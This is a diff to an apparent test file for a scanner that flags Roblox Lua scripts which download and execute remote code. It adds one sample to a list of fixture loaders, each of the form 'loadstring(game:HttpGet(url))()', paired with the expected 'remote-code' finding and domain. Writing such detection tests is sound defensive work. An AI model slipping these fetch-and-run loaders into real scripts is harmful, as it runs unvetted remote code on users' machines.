@@ -17,6 +17,7 @@ const escaped = (text: string) => [...text].map((character) => `\\${character.ch
 const dense = Array.from({ length: 1_200 }, (_, i) => String.fromCharCode(33 + ((i * 7919) % 90))).join('');
 
 const SAMPLES: Sample[] = [
+  { name: 'a host written with a final dot and in capitals', source: 'loadstring(game:HttpGet("https://Raw.GitHubUserContent.com./demo/a.lua"))()', findings: ['remote-code'], domains: ['raw.githubusercontent.com'] },
   { name: 'a plain loader from GitHub', source: 'loadstring(game:HttpGet("https://raw.githubusercontent.com/demo/hub/main/loader.lua"))()', findings: ['remote-code'], domains: ['raw.githubusercontent.com'] },
   { name: 'HttpGetAsync through a name built with ..', source: 'local base = "https://www.example.com/"\nlocal url = base .. "v2/main.lua"\nloadstring(game:HttpGetAsync(url))()', findings: ['remote-code'], domains: ['example.com'] },
   { name: 'a Luau loader with types and a backtick URL', source: 'local id: string? = "7"\nlocal code = game:HttpGet(`https://cdn.example.org/s/{id}.lua`)\nloadstring(code)()', findings: ['remote-code'], domains: ['cdn.example.org'] },
